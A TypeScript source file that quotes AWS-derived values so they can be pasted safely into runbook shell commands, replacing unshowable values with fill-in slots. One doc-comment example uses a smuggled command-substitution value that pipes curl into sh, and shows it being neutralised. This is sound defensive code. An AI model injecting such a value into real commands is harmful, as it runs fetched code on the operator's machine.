/**
 * How a value from AWS goes into a runbook command that people copy into a shell: as written when
 * it is plainly safe, otherwise quoted so the shell reads it as one inert word. A value no quoting
 * makes safe to show (a newline, a backtick that would end the code span, a control character) is
 * replaced by a `<slot>` the reader fills in.
 */

/** Characters no shell gives a meaning to in the middle of a word. */
const PLAIN_WORD = /^[A-Za-z0-9_.,:/@%+=-]+$/;
/** Cannot be shown inside an inline code span, quoted or not. */
const UNSHOWABLE = /[`\p{Cc}\u2028\u2029]/u;
/** Our own fill-in slots (`<function-name>`), which are meant to be replaced by hand. */
const SLOT = /^<[a-z-]+>$/;

export type ShellContext = 'unquoted' | 'single-quoted' | 'double-quoted';

/**
 * The value as it may appear at a point of a command, or null when it must not appear at all.
 *
 * @example
 * shellWord('orders$(curl x|sh)', 'unquoted'); // "'orders$(curl x|sh)'"
 * shellWord("Bob's", 'single-quoted'); // "Bob'\\''s" (inside an existing '…')
 */
export function shellWord(value: string, context: ShellContext): string | null {
  if (PLAIN_WORD.test(value) || SLOT.test(value)) return value;
  if (UNSHOWABLE.test(value)) return null;
  const inSingle = value.replace(/'/g, `'\\''`);
  if (context === 'unquoted') return `'${inSingle}'`;
  if (context === 'single-quoted') return inSingle;
  // Inside "…" the shell still expands $, ` and \: rather than reason about it, show a slot.
  return null;
}
